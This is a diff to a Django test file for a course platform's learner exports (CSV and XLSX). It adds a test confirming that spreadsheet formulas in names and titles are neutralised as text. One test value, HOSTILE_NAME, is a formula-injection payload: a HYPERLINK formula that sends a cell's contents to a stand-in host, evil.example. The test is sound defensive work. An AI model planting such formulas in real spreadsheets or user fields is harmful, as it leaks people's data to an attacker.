@@ -1,9 +1,11 @@
 import csv
+import datetime
 import io
 
 import pytest
 from django.contrib.auth.models import Group
 from django.urls import reverse
+from openpyxl import load_workbook
 from wagtail.models import Page
 
 from accounts.factories import UserFactory
@@ -42,10 +44,11 @@ def test_trainer_sees_only_the_learners_of_their_own_courses(client, catalogue):
     assert "Bor Outsider" not in page
 
     export = client.get(reverse("courses_learners"), {"export": "csv"})
-    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    text = b"".join(export.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
     assert rows[0][:3] == ["Learner", "E-mail", "Course"]
     assert [row[0] for row in rows[1:]] == ["Ana Learner"]
-    assert rows[1][4] == "25"
+    assert rows[1][4] == "25%"
     xlsx = client.get(reverse("courses_learners"), {"export": "xlsx"})
     assert xlsx.status_code == 200
 
@@ -198,3 +201,62 @@ def test_trainers_upload_and_choose_images_and_documents(client, catalogue):
         title="Someone else's", file=get_test_image_file(), uploaded_by_user=None
     )
     assert client.get(reverse("wagtailimages:edit", args=[other.pk])).status_code == 302
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B3,"Ana")'
+
+
+def test_learners_exports_hold_no_formulas_and_typed_cells(client, catalogue):
+    """A learner's name and a course title are text in the files, never formulas;
+    progress is a number, times are Ljubljana's, completed learners say so."""
+    manager = staff(COURSE_MANAGERS)
+    course, lessons = build_course(
+        parent=catalogue, title="=1+1 pricing", lessons_per_module=(2, 2)
+    )
+    ana = UserFactory(full_name=HOSTILE_NAME)
+    services.enrolment_create(user=ana, course=course)
+    services.lesson_complete(user=ana, lesson=lessons[0])
+    bor = UserFactory(full_name="Bor Finisher")
+    services.enrolment_create(user=bor, course=course)
+    for lesson in lessons:
+        services.lesson_complete(user=bor, lesson=lesson)
+    summer = datetime.datetime(2026, 7, 1, 10, 5, tzinfo=datetime.UTC)  # 12:05 local
+    Enrolment.objects.filter(user=ana).update(enrolled_at=summer)
+    client.force_login(manager)
+    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
+
+    listing = client.get(reverse("courses_learners")).context["object_list"]
+    states = {str(enrolment.user): str(enrolment.state) for enrolment in listing}
+    assert states[str(bor)] == "Completed" and states[str(ana)] == "Enrolled"
+
+    export = client.get(reverse("courses_learners"), {"export": "xlsx"})
+    workbook = load_workbook(io.BytesIO(export.content))
+    assert workbook.sheetnames == ["Learners"]
+    rows = list(workbook.active.iter_rows())
+    headings = [cell.value for cell in rows[0]]
+    assert headings[3:7] == ["Status", "Progress", "Quizzes passed", "Best quiz score"]
+    by_email = {row[1].value: row for row in rows[1:]}
+    ana_row, bor_row = by_email[ana.email], by_email[bor.email]
+    name, course_title = ana_row[0], ana_row[2]
+    assert name.data_type == "s" and name.value == "'" + HOSTILE_NAME
+    assert course_title.data_type == "s" and course_title.value == "'=1+1 pricing"
+    progress = ana_row[4]
+    assert progress.value == 0.25 and progress.number_format == "0%"
+    enrolled = ana_row[headings.index("Enrolled")]
+    assert enrolled.is_date
+    assert enrolled.value == datetime.datetime(2026, 7, 1, 12, 5)
+    assert enrolled.number_format == "d mmm yyyy hh:mm"
+    assert bor_row[3].value == "Completed" and bor_row[4].value == 1
+
+    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "sl"
+    export = client.get(reverse("courses_learners"), {"export": "csv"})
+    text = b"".join(export.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+    assert rows[0][:3] == ["Udeleženec", "E-pošta", "Tečaj"]
+    by_email = {row[1]: row for row in rows[1:]}
+    assert by_email[ana.email][0] == "'" + HOSTILE_NAME
+    assert by_email[ana.email][2] == "'=1+1 pricing"
+    assert by_email[ana.email][4] == "25%"
+    assert by_email[ana.email][headings.index("Enrolled")] == "2026-07-01 12:05"
+    assert by_email[bor.email][3] == "Zaključil(-a)"
